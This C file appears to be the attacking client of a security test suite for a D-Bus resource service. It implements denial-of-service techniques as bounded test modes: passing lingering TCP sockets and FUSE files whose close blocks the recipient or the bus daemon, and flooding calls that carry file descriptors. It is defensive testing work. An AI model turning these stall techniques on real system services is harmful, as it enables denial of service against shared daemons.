/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack-fd: the client side of tests/security/test-security-fd.sh: descriptors
 * passed with calls, whose close runs code the caller chose. Run under
 * setpriv as the attacking uid (the probe as root). Plain sd-bus on
 * $DBUS_SYSTEM_BUS_ADDRESS; every mode is bounded in time (alarm(2) as a
 * last resort) and prints "KEY value..." lines for the script to judge; the
 * exit status is 0 unless the mode could not even be attempted (then 3,
 * with a message on stderr).
 *
 * DEST is the bus name the calls go to; TARGET says which calls carry the
 * descriptor: "main", PageSize() and GetRlimit("NOFILE") with one attached
 * (methods that take none: the body gets an extra "h"); "pidfd", the
 * descriptor as the pidfd of PrlimitPidfd (NOFILE, read), ListRlimitsPidfd,
 * GetRusagePidfd (self) and SetRlimitsPidfd ([CORE 0 0]). Each call goes on
 * a fresh connection of its own, followed there by a GetId to the bus: once
 * that is answered, the bus has passed the call on or refused it. Every
 * answer is printed as "REPLY <method> ms=<ms after sending> <error name or
 * OK> <message>".
 *
 *   attack-fd linger DEST TARGET HOLD_S
 *       a TCP connection over loopback to a peer of its own that never
 *       reads, SO_LINGER {1, 3600}, written to until nothing more can go
 *       (the FIN cannot either): its descriptor goes with TARGET's calls,
 *       then the caller closes its own copy (on a thread of its own), so
 *       that the last close is another's and waits in
 *       sk_stream_wait_close() for up to an hour. Prints "LINGER port=
 *       queued=<bytes written> unsent=<bytes not sent>", then "ATTEMPT <n>
 *       last_close=other" when its own close returned at once (another
 *       holds the socket), or "last_close=self" when it waits (the
 *       recipients had all closed theirs: then up to 3 attempts with fresh
 *       sockets), "READY", "CLOSING ms=<n>" once the last socket is in
 *       FIN_WAIT1 (its last close has begun: whoever made it waits); after
 *       HOLD_S it lets every socket go (closes the peers, which resets the
 *       connections) and prints "RELEASED state=<tcp state before>".
 *   attack-fd fuse DEST TARGET HOLD_S
 *       a file on a FUSE file system of its own (attack-fd-fuse.c) whose
 *       FLUSH and GETATTR it holds for any process but itself and the bus
 *       daemon, uninterruptibly; the descriptor goes with TARGET's calls,
 *       the caller closes its own copy. Prints "FUSE server= bus=",
 *       "READY", "HELD <op> pid= comm=" for each request held; after HOLD_S
 *       answers them, ends the server and prints "FUSE held= flushes=
 *       getattrs=", "RELEASED". Prints "SKIP <reason>" instead where FUSE
 *       in a user namespace is not available.
 *   attack-fd flood DEST TARGET CONNS CALLS FDS SECONDS
 *       rounds of CONNS fresh connections, each sending CALLS calls at once,
 *       each call carrying FDS descriptors (of one eventfd):
 *       GetRlimit("NOFILE") (TARGET main) or ListRlimitsPidfd (pidfd), the
 *       extra ones as more "h" arguments; a round waits for its answers
 *       (10 s at most), and rounds follow until SECONDS have passed. Prints
 *       "ROUND <n> connections= sent= answered= lost_connections= send_ms=
 *       ms=" for each, then "FLOOD rounds= calls= answered= noreply= unsent=
 *       ms=" and "ANSWER <count> <error name or OK> <first message>" for
 *       each kind of answer.
 *   attack-fd probe SECONDS INTERVAL_MS TIMEOUT_S PID
 *       PageSize on org.example.Resource1 every INTERVAL_MS for SECONDS,
 *       each with a TIMEOUT_S timeout; meanwhile a thread samples process
 *       PID as often: its state, its threads', its descriptor count. Prints
 *       "PROBE calls= answered= errors= timeouts= median_us= max_us=",
 *       "FIRST_ERROR <name> <message>", and "WATCH samples= gone= main_d=
 *       thread_d_run= fds_max= wchan=<where the main thread waited other
 *       than its loop>(<samples>)".
 *   attack-fd pidfd-call DEST PID TIMEOUT_S
 *       PrlimitPidfd(pidfd_open(PID), NOFILE, read) to DEST, tried again
 *       every 100 ms until it succeeds or TIMEOUT_S pass: "PIDFD ok ms=
 *       tries= soft= hard=" or "PIDFD failed ms= tries= <name> <message>".
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/sockios.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack-common.h"
#include "attack-fd-fuse.h"
#include "resource1-bus.h"

#define PATH  RESOURCE1_PATH
#define IFACE RESOURCE1_INTERFACE
#define CALLS_MAX 8

/* ---- TARGET's calls, each on a fresh connection ---- */

typedef struct Call {
        const char *method;
        sd_bus *bus;
        uint64_t sent_us;
        bool answered;
} Call;

typedef struct Calls {
        Call call[CALLS_MAX];
        unsigned n;
} Calls;

static int on_call_reply(sd_bus_message *m, void *userdata, sd_bus_error *ret_error) {
        Call *c = userdata;
        const sd_bus_error *e = sd_bus_message_get_error(m);
        (void) ret_error;

        c->answered = true;
        printf("REPLY %s ms=%" PRIu64 " %s %s\n", c->method, (now_us() - c->sent_us) / 1000,
               e ? e->name : "OK", e && e->message ? e->message : "");
        return 0;
}

static int send_target_call(Calls *calls, const char *dest, const char *method, int fd) {
        Call *c = &calls->call[calls->n];
        int r;

        c->method = method;
        c->bus = connect_bus(60 * 1000000ULL);
        if (!c->bus)
                return -ENOTCONN;
        c->sent_us = now_us();
        if (strcmp(method, "GetRlimit") == 0)
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "sh",
                                             "NOFILE", fd);
        else if (strcmp(method, "PageSize") == 0)
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "h", fd);
        else if (strcmp(method, "PrlimitPidfd") == 0)
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "hsbtt",
                                             fd, "NOFILE", 0, (uint64_t) 0, (uint64_t) 0);
        else if (strcmp(method, "ListRlimitsPidfd") == 0)
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "h", fd);
        else if (strcmp(method, "GetRusagePidfd") == 0)
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "hs", fd,
                                             "self");
        else
                r = sd_bus_call_method_async(c->bus, NULL, dest, PATH, IFACE, method, on_call_reply, c, "ha(stt)",
                                             fd, 1, "CORE", (uint64_t) 0, (uint64_t) 0);
        /* A call to the bus itself after it, on the same connection: the
         * bus handles a connection's messages in order, so once this is
         * answered, the bus has passed the descriptor on or refused it, and
         * closed its own copy. (A caller that closes its copy first makes
         * the bus's close of a refused one the last: a lingering socket
         * then stalls the bus itself, whatever the destination.) */
        if (r >= 0)
                r = sd_bus_call_method(c->bus, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                                       "org.freedesktop.DBus", "GetId", NULL, NULL, "");
        if (r < 0) {
                printf("REPLY %s ms=0 (local) sending: %s\n", method, strerror(-r));
                sd_bus_flush_close_unref(c->bus);
                return r;
        }
        calls->n++;
        return 0;
}

static int send_target(Calls *calls, const char *dest, const char *target, int fd) {
        static const char *const main_calls[] = { "PageSize", "GetRlimit", NULL };
        static const char *const pidfd_calls[] = { "PrlimitPidfd", "ListRlimitsPidfd", "GetRusagePidfd",
                                                   "SetRlimitsPidfd", NULL };
        const char *const *m = strcmp(target, "main") == 0 ? main_calls :
                               strcmp(target, "pidfd") == 0 ? pidfd_calls : NULL;
        if (!m)
                return -EINVAL;
        for (; *m; m++) {
                int r = send_target_call(calls, dest, *m, fd);
                if (r < 0)
                        return r;
        }
        return 0;
}

/* Processes the connections' answers for up to timeout_us. */
static void pump(Calls *calls, uint64_t timeout_us) {
        uint64_t end = now_us() + timeout_us;
        do {
                bool busy = false;
                for (unsigned i = 0; i < calls->n; i++)
                        if (calls->call[i].bus && sd_bus_process(calls->call[i].bus, NULL) > 0)
                                busy = true;
                if (!busy)
                        usleep(5000);
        } while (now_us() < end);
}

static void calls_close(Calls *calls) {
        for (unsigned i = 0; i < calls->n; i++) {
                if (!calls->call[i].answered)
                        printf("REPLY %s unanswered\n", calls->call[i].method);
                calls->call[i].bus = sd_bus_flush_close_unref(calls->call[i].bus);
        }
}

/* The bus daemon's pid, which the FUSE server lets through (its copy of the
 * descriptor is closed once the message is passed on or refused). */
static pid_t bus_pid(void) {
        sd_bus *bus = connect_bus(5 * 1000000ULL);
        uint32_t pid = 0;
        if (bus) {
                sd_bus_message *reply = NULL;
                if (sd_bus_call_method(bus, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                                       "GetConnectionUnixProcessID", NULL, &reply, "s",
                                       "org.freedesktop.DBus") >= 0)
                        (void) sd_bus_message_read(reply, "u", &pid);
                sd_bus_message_unref(reply);
                sd_bus_flush_close_unref(bus);
        }
        return (pid_t) pid;
}

/* ---- linger: a socket whose last close waits ---- */

/* The TCP state (/proc/net/tcp's hex "st") of the connection from port. */
static int tcp_state(unsigned port) {
        FILE *f = fopen("/proc/net/tcp", "re");
        char line[512];
        int state = -1;
        if (!f)
                return -1;
        while (fgets(line, sizeof line, f)) {
                unsigned lport, st;
                if (sscanf(line, " %*u: %*x:%x %*x:%*x %x", &lport, &st) == 2 && lport == port) {
                        state = (int) st;
                        break;
                }
        }
        fclose(f);
        return state;
}

static const char *tcp_state_name(int s) {
        static const char *const names[] = { "?", "ESTABLISHED", "SYN_SENT", "SYN_RECV", "FIN_WAIT1", "FIN_WAIT2",
                                             "TIME_WAIT", "CLOSE", "CLOSE_WAIT", "LAST_ACK", "LISTEN", "CLOSING" };
        return s > 0 && s < 12 ? names[s] : "gone";
}

typedef struct Linger {
        int sock, peer;
        unsigned port;
        pthread_t closer;
        volatile bool closed;
        Calls calls;
} Linger;

static void *close_in_thread(void *arg) {
        Linger *l = arg;
        /* If this close is the last, it is this thread that waits. */
        close(l->sock);
        l->closed = true;
        return NULL;
}

/* A connected socket with SO_LINGER {1, 3600} whose peer never reads,
 * written to until nothing more can go. */
static int linger_socket(Linger *l) {
        int lis = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), small = 4096;
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        socklen_t alen = sizeof a;
        /* Small buffers (the accepted socket inherits the listener's): the
         * window closes after a few KiB. */
        if (lis < 0 || setsockopt(lis, SOL_SOCKET, SO_RCVBUF, &small, sizeof small) < 0 ||
            bind(lis, (struct sockaddr *) &a, sizeof a) < 0 || listen(lis, 1) < 0 ||
            getsockname(lis, (struct sockaddr *) &a, &alen) < 0)
                return -errno;
        l->sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (l->sock < 0 || setsockopt(l->sock, SOL_SOCKET, SO_SNDBUF, &small, sizeof small) < 0 ||
            connect(l->sock, (struct sockaddr *) &a, sizeof a) < 0)
                return -errno;
        l->peer = accept4(lis, NULL, NULL, SOCK_CLOEXEC);
        if (l->peer < 0)
                return -errno;
        close(lis);
        struct sockaddr_in local;
        alen = sizeof local;
        if (getsockname(l->sock, (struct sockaddr *) &local, &alen) < 0)
                return -errno;
        l->port = ntohs(local.sin_port);

        struct linger lg = { .l_onoff = 1, .l_linger = 3600 };
        if (setsockopt(l->sock, SOL_SOCKET, SO_LINGER, &lg, sizeof lg) < 0)
                return -errno;
        /* Fill the peer's window and our send buffer: then nothing more, the
         * FIN included, can go until the peer reads. */
        static char junk[4096];
        size_t queued = 0;
        for (unsigned quiet = 0; quiet < 20;) {
                ssize_t n = send(l->sock, junk, sizeof junk, MSG_DONTWAIT | MSG_NOSIGNAL);
                if (n > 0) {
                        queued += (size_t) n;
                        quiet = 0;
                } else {
                        quiet++;
                        usleep(5000);
                }
        }
        int unsent = -1;
        (void) ioctl(l->sock, SIOCOUTQ, &unsent);
        printf("LINGER port=%u queued=%zu unsent=%d\n", l->port, queued, unsent);
        return unsent > 0 ? 0 : -EAGAIN;
}

#define ATTEMPTS 3

static int mode_linger(int argc, char **argv) {
        if (argc < 3)
                return die("linger needs DEST TARGET HOLD_S", EINVAL);
        const char *dest = argv[0], *target = argv[1];
        double hold = atof(argv[2]);
        alarm((unsigned) hold + 60);

        /* The last close must be another's: if this caller's own close is
         * (the other holder closed its copy first, or the bus refused the
         * call and closed its own), that close waits, here, and a fresh
         * socket is tried. */
        Linger l[ATTEMPTS] = {};
        unsigned n = 0;
        bool other = false;
        while (n < ATTEMPTS && !other) {
                Linger *x = &l[n++];
                int r = linger_socket(x);
                if (r < 0)
                        return die("making a lingering socket", r);
                r = send_target(&x->calls, dest, target, x->sock);
                if (r < 0)
                        printf("# sending failed: %s\n", strerror(-r));
                pthread_create(&x->closer, NULL, close_in_thread, x);
                for (int i = 0; i < 100 && !x->closed; i++)
                        usleep(1000);
                other = x->closed;
                printf("ATTEMPT %u last_close=%s\n", n, other ? "other" : "self");
        }
        printf("READY\n");

        Linger *x = &l[n - 1];
        uint64_t t0 = now_us(), end = t0 + (uint64_t) (hold * 1e6);
        bool closing = false;
        int state = -1;
        while (now_us() < end) {
                for (unsigned i = 0; i < n; i++)
                        pump(&l[i].calls, 20000 / n);
                state = tcp_state(x->port);
                if (!closing && state == 4) {   /* FIN_WAIT1 */
                        closing = true;
                        printf("CLOSING ms=%" PRIu64 "\n", (now_us() - t0) / 1000);
                }
        }
        /* Let it go: the peer closes with data unread, which resets the
         * connection, and whoever waits in the close returns. */
        for (unsigned i = 0; i < n; i++)
                close(l[i].peer);
        printf("RELEASED state=%s\n", tcp_state_name(state));
        for (unsigned i = 0; i < n; i++) {
                pthread_join(l[i].closer, NULL);
                pump(&l[i].calls, i + 1 == n ? 2000000 : 0);
                calls_close(&l[i].calls);
        }
        return 0;
}

/* ---- fuse: a file whose close waits on its server ---- */

static int mode_fuse(int argc, char **argv) {
        if (argc < 3)
                return die("fuse needs DEST TARGET HOLD_S", EINVAL);
        const char *dest = argv[0], *target = argv[1];
        double hold = atof(argv[2]);
        alarm((unsigned) hold + 60);

        /* The bus's own close of its copy must not wait: it is not the
         * service (and a bus that waits stalls everyone). */
        pid_t allowed[2] = { getpid(), bus_pid() };
        if (allowed[1] <= 0)
                printf("# the bus did not say its pid: its own close of the file will wait too\n");
        FuseHold h = {};
        char why[256] = "";
        int file = -1;
        int r = fuse_hold_start(&h, allowed, 2, &file, why, sizeof why);
        if (r == -EOPNOTSUPP) {
                printf("%s\n", why);
                return 0;
        }
        if (r < 0)
                return die(why[0] ? why : "starting the FUSE server", r);
        printf("FUSE server=%d bus=%d\n", (int) h.server, (int) allowed[1]);

        Calls calls = {};
        r = send_target(&calls, dest, target, file);
        close(file);    /* our own copy: our FLUSH is answered */
        printf("READY\n");
        if (r < 0)
                printf("# sending failed: %s\n", strerror(-r));
        pump(&calls, (uint64_t) (hold * 1e6));
        fuse_hold_release(&h);
        printf("RELEASED\n");
        pump(&calls, 2000000);
        calls_close(&calls);
        return 0;
}

/* ---- flood: many calls carrying many descriptors ---- */

typedef struct Kind {
        char name[128], message[256];
        unsigned count;
} Kind;

typedef struct FloodState {
        Kind kinds[16];
        unsigned n_kinds, sent, answered, noreply, unsent;
        char first_unsent[256];
} FloodState;

static int on_flood_reply(sd_bus_message *m, void *userdata, sd_bus_error *ret_error) {
        FloodState *f = userdata;
        const sd_bus_error *e = sd_bus_message_get_error(m);
        const char *name = e ? e->name : "OK";
        (void) ret_error;

        f->answered++;
        if (e && is_timeout_name(e->name))
                f->noreply++;
        unsigned i = 0;
        while (i < f->n_kinds && strcmp(f->kinds[i].name, name) != 0)
                i++;
        if (i == f->n_kinds && i < 16) {
                snprintf(f->kinds[i].name, sizeof f->kinds[i].name, "%s", name);
                snprintf(f->kinds[i].message, sizeof f->kinds[i].message, "%s", e && e->message ? e->message : "");
                f->n_kinds++;
        }
        if (i < 16)
                f->kinds[i].count++;
        return 0;
}

/* One round: CONNS fresh connections, their calls, their answers. */
static void flood_round(FloodState *f, const char *dest, bool main_target, int conns, int per, int fds, int efd,
                        uint64_t wait_us, unsigned round) {
        sd_bus **bus = calloc((size_t) conns, sizeof *bus);
        unsigned sent = 0, answered0 = f->answered, opened = 0;
        uint64_t t0 = now_us();

        for (int i = 0; bus && i < conns; i++)
                if ((bus[i] = connect_bus(wait_us)))
                        opened++;
        for (int i = 0; bus && i < conns; i++) {
                if (!bus[i])
                        continue;
                for (int k = 0; k < per; k++) {
                        sd_bus_message *m = NULL;
                        int r = sd_bus_message_new_method_call(bus[i], &m, dest, PATH, IFACE,
                                                               main_target ? "GetRlimit" : "ListRlimitsPidfd");
                        if (r >= 0 && main_target)
                                r = sd_bus_message_append(m, "s", "NOFILE");
                        for (int j = 0; r >= 0 && j < fds; j++)
                                r = sd_bus_message_append_basic(m, 'h', &efd);
                        if (r >= 0)
                                r = sd_bus_call_async(bus[i], NULL, m, on_flood_reply, f, 0);
                        sd_bus_message_unref(m);
                        if (r < 0) {
                                if (!f->unsent++)
                                        snprintf(f->first_unsent, sizeof f->first_unsent, "%s", strerror(-r));
                                continue;
                        }
                        sent++;
                }
                /* Written now: this connection's copies of the descriptor go. */
                int r = sd_bus_flush(bus[i]);
                if (r < 0 && !f->first_unsent[0])
                        snprintf(f->first_unsent, sizeof f->first_unsent, "flush: %s", strerror(-r));
        }
        uint64_t sent_ms = (now_us() - t0) / 1000, end = now_us() + wait_us;
        unsigned lost = 0;
        while (bus && f->answered - answered0 < sent && now_us() < end) {
                bool busy = false;
                lost = 0;
                for (int i = 0; i < conns; i++) {
                        int r = bus[i] ? sd_bus_process(bus[i], NULL) : -ENOTCONN;
                        if (r > 0)
                                busy = true;
                        else if (r < 0)
                                lost++;
                }
                if (lost == (unsigned) conns)
                        break;
                if (!busy)
                        usleep(2000);
        }
        printf("ROUND %u connections=%u sent=%u answered=%u lost_connections=%u send_ms=%" PRIu64 " ms=%" PRIu64 "\n",
               round, opened, sent, f->answered - answered0, lost, sent_ms, (now_us() - t0) / 1000);
        f->sent += sent;
        for (int i = 0; bus && i < conns; i++)
                sd_bus_close_unref(bus[i]);
        free(bus);
}

static int mode_flood(int argc, char **argv) {
        if (argc < 6)
                return die("flood needs DEST TARGET CONNS CALLS FDS SECONDS", EINVAL);
        const char *dest = argv[0];
        bool main_target = strcmp(argv[1], "main") == 0;
        int conns = atoi(argv[2]), per = atoi(argv[3]), fds = atoi(argv[4]);
        double seconds = atof(argv[5]);
        if (conns < 1 || conns > 1024 || per < 1 || per > 64 || fds < 1 || fds > 16)
                return die("flood: CONNS 1..1024, CALLS 1..64, FDS 1..16", EINVAL);
        alarm((unsigned) seconds + 60);

        /* Room for a connection's calls' copies until they are written. */
        struct rlimit l;
        if (getrlimit(RLIMIT_NOFILE, &l) == 0) {
                l.rlim_cur = l.rlim_max;
                (void) setrlimit(RLIMIT_NOFILE, &l);
        }
        int efd = eventfd(0, EFD_CLOEXEC);
        if (efd < 0)
                return die("eventfd", errno);

        /* Rounds of fresh connections until SECONDS have passed; each round
         * waits for its answers (at most 10 s: an old daemon holds a call
         * while it asks the bus who sent it, 2 s at most). */
        FloodState f = {};
        uint64_t t0 = now_us(), end = t0 + (uint64_t) (seconds * 1e6);
        unsigned rounds = 0;
        do
                flood_round(&f, dest, main_target, conns, per, fds, efd, 10 * 1000000ULL, ++rounds);
        while (now_us() < end);
        printf("FLOOD rounds=%u calls=%u answered=%u noreply=%u unsent=%u ms=%" PRIu64 "\n", rounds, f.sent,
               f.answered, f.noreply, f.unsent, (now_us() - t0) / 1000);
        if (f.first_unsent[0])
                printf("UNSENT %s\n", f.first_unsent);
        for (unsigned i = 0; i < f.n_kinds; i++)
                printf("ANSWER %u %s %s\n", f.kinds[i].count, f.kinds[i].name, f.kinds[i].message);
        return 0;
}

/* ---- probe: root's PageSize, and the daemon's state meanwhile ---- */

typedef struct Watch {
        pid_t pid;
        unsigned interval_ms;
        volatile bool stop;
        unsigned samples, gone, main_d, d_run, d_run_max, fds_max, wchan_n;
        unsigned long long start;
        char wchan[64];
} Watch;

/* State and start time (field 22) of a /proc/.../stat file. */
static bool read_stat(const char *path, char *ret_state, unsigned long long *ret_start) {
        char buf[1024];
        if (read_small(path, buf, sizeof buf) < 0)
                return false;
        char *p = strrchr(buf, ')');
        unsigned long long start = 0;
        char state = 0;
        /* After ") ": state is field 3, start time field 22. */
        if (!p || sscanf(p + 2, "%c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %*u %*u %*d %*d %*d %*d %*d %*d %llu",
                         &state, &start) != 2)
                return false;
        *ret_state = state;
        if (ret_start)
                *ret_start = start;
        return true;
}

static unsigned count_dir(const char *path) {
        DIR *d = opendir(path);
        unsigned n = 0;
        if (!d)
                return 0;
        for (struct dirent *e; (e = readdir(d));)
                if (e->d_name[0] != '.')
                        n++;
        closedir(d);
        return n;
}

static void watch_sample(Watch *w) {
        char path[96], state, tstate;
        unsigned long long start;

        w->samples++;
        snprintf(path, sizeof path, "/proc/%d/stat", (int) w->pid);
        if (!read_stat(path, &state, &start) || (w->start && start != w->start)) {
                w->gone++;
                return;
        }
        w->start = start;
        if (state == 'D')
                w->main_d++;

        bool any_d = false;
        snprintf(path, sizeof path, "/proc/%d/task", (int) w->pid);
        DIR *d = opendir(path);
        for (struct dirent *e; d && (e = readdir(d));) {
                if (e->d_name[0] == '.')
                        continue;
                snprintf(path, sizeof path, "/proc/%d/task/%.16s/stat", (int) w->pid, e->d_name);
                if (read_stat(path, &tstate, NULL) && tstate == 'D')
                        any_d = true;
        }
        if (d)
                closedir(d);
        w->d_run = any_d ? w->d_run + 1 : 0;
        if (w->d_run > w->d_run_max)
                w->d_run_max = w->d_run;

        snprintf(path, sizeof path, "/proc/%d/fd", (int) w->pid);
        unsigned fds = count_dir(path);
        if (fds > w->fds_max)
                w->fds_max = fds;

        char wchan[64];
        snprintf(path, sizeof path, "/proc/%d/wchan", (int) w->pid);
        if (read_small(path, wchan, sizeof wchan) > 0 && strcmp(wchan, "0") != 0 && !strstr(wchan, "epoll") &&
            strcmp(wchan, "ep_poll") != 0) {
                if (!w->wchan[0])
                        snprintf(w->wchan, sizeof w->wchan, "%s", wchan);
                w->wchan_n++;
        }
}

static void *watch_thread(void *arg) {
        Watch *w = arg;
        while (!w->stop) {
                uint64_t t0 = now_us();
                watch_sample(w);
                uint64_t dt = now_us() - t0;
                if (dt < w->interval_ms * 1000ULL)
                        usleep((useconds_t) (w->interval_ms * 1000ULL - dt));
        }
        return NULL;
}

static int cmp_u64(const void *a, const void *b) {
        uint64_t x = *(const uint64_t *) a, y = *(const uint64_t *) b;
        return x < y ? -1 : x > y;
}

static int mode_probe(int argc, char **argv) {
        if (argc < 4)
                return die("probe needs SECONDS INTERVAL_MS TIMEOUT_S PID", EINVAL);
        double seconds = atof(argv[0]), timeout_s = atof(argv[2]);
        unsigned interval_ms = (unsigned) atoi(argv[1]);
        uint64_t timeout_us = (uint64_t) (timeout_s * 1e6);
        if (interval_ms < 1)
                return die("probe: INTERVAL_MS must be positive", EINVAL);
        alarm((unsigned) (seconds + timeout_s) + 10);

        Watch w = { .pid = (pid_t) atoi(argv[3]), .interval_ms = interval_ms };
        pthread_t t;
        if (pthread_create(&t, NULL, watch_thread, &w) != 0)
                return die("pthread_create", EAGAIN);
        sd_bus *bus = connect_bus(timeout_us);
        if (!bus)
                return 3;
        size_t cap = (size_t) (seconds * 1000 / interval_ms) + 16, n = 0;
        uint64_t *lat = calloc(cap, sizeof *lat);
        unsigned answered = 0, timeouts = 0, errors = 0;
        char first_error[512] = "";
        uint64_t end = now_us() + (uint64_t) (seconds * 1e6);
        while (now_us() < end && n < cap) {
                sd_bus_error e = SD_BUS_ERROR_NULL;
                sd_bus_message *reply = NULL;
                uint64_t t0 = now_us();
                int r = sd_bus_call_method(bus, RESOURCE1_BUS_NAME, PATH, IFACE, "PageSize", &e, &reply, "");
                uint64_t dt = now_us() - t0;
                lat[n++] = dt;
                if (r >= 0)
                        answered++;
                else {
                        if (is_timeout(&e, r))
                                timeouts++;
                        else
                                errors++;
                        if (!first_error[0])
                                snprintf(first_error, sizeof first_error, "%s %s (after %" PRIu64 " ms)",
                                         e.name ?: "(local)", e.message ?: strerror(-r), dt / 1000);
                        sd_bus_flush_close_unref(bus);
                        if (!(bus = connect_bus(timeout_us)))
                                return 3;
                }
                sd_bus_error_free(&e);
                sd_bus_message_unref(reply);
                if (dt < interval_ms * 1000ULL)
                        usleep((useconds_t) (interval_ms * 1000ULL - dt));
        }
        w.stop = true;
        pthread_join(t, NULL);
        qsort(lat, n, sizeof *lat, cmp_u64);
        printf("PROBE calls=%zu answered=%u errors=%u timeouts=%u median_us=%" PRIu64 " max_us=%" PRIu64 "\n", n,
               answered, errors, timeouts, n ? lat[n / 2] : 0, n ? lat[n - 1] : 0);
        if (first_error[0])
                printf("FIRST_ERROR %s\n", first_error);
        printf("WATCH samples=%u gone=%u main_d=%u thread_d_run=%u fds_max=%u wchan=%s(%u)\n", w.samples, w.gone,
               w.main_d, w.d_run_max, w.fds_max, w.wchan[0] ? w.wchan : "-", w.wchan_n);
        free(lat);
        sd_bus_flush_close_unref(bus);
        return 0;
}

/* ---- pidfd-call: the service still serves a real pidfd ---- */

static int mode_pidfd_call(int argc, char **argv) {
        if (argc < 3)
                return die("pidfd-call needs DEST PID TIMEOUT_S", EINVAL);
        const char *dest = argv[0];
        double timeout_s = atof(argv[2]);
        alarm((unsigned) timeout_s + 10);

        int pidfd = (int) syscall(SYS_pidfd_open, (pid_t) atoi(argv[1]), 0);
        if (pidfd < 0)
                return die("pidfd_open", errno);
        uint64_t t0 = now_us(), end = t0 + (uint64_t) (timeout_s * 1e6);
        char last[512] = "";
        unsigned tries = 0;
        do {
                sd_bus *bus = connect_bus(1000000);
                sd_bus_error e = SD_BUS_ERROR_NULL;
                sd_bus_message *reply = NULL;
                uint64_t soft = 0, hard = 0;
                tries++;
                int r = bus ? sd_bus_call_method(bus, dest, PATH, IFACE, "PrlimitPidfd", &e, &reply, "hsbtt", pidfd,
                                                 "NOFILE", 0, (uint64_t) 0, (uint64_t) 0) : -ENOTCONN;
                if (r >= 0)
                        r = sd_bus_message_read(reply, "tt", &soft, &hard);
                if (r >= 0)
                        printf("PIDFD ok ms=%" PRIu64 " tries=%u soft=%" PRIu64 " hard=%" PRIu64 "\n",
                               (now_us() - t0) / 1000, tries, soft, hard);
                else
                        snprintf(last, sizeof last, "%s %s", e.name ?: "(local)", e.message ?: strerror(-r));
                sd_bus_error_free(&e);
                sd_bus_message_unref(reply);
                sd_bus_flush_close_unref(bus);
                if (r >= 0)
                        return 0;
                usleep(100000);
        } while (now_us() < end);
        printf("PIDFD failed ms=%" PRIu64 " tries=%u %s\n", (now_us() - t0) / 1000, tries, last);
        return 0;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc < 2) {
                fprintf(stderr, "usage: attack-fd linger|fuse|flood|probe|pidfd-call ...\n");
                return 2;
        }
        const char *mode = argv[1];
        argc -= 2, argv += 2;
        if (strcmp(mode, "linger") == 0)
                return mode_linger(argc, argv);
        if (strcmp(mode, "fuse") == 0)
                return mode_fuse(argc, argv);
        if (strcmp(mode, "flood") == 0)
                return mode_flood(argc, argv);
        if (strcmp(mode, "probe") == 0)
                return mode_probe(argc, argv);
        if (strcmp(mode, "pidfd-call") == 0)
                return mode_pidfd_call(argc, argv);
        fprintf(stderr, "attack-fd: unknown mode '%s'\n", mode);
        return 2;
}
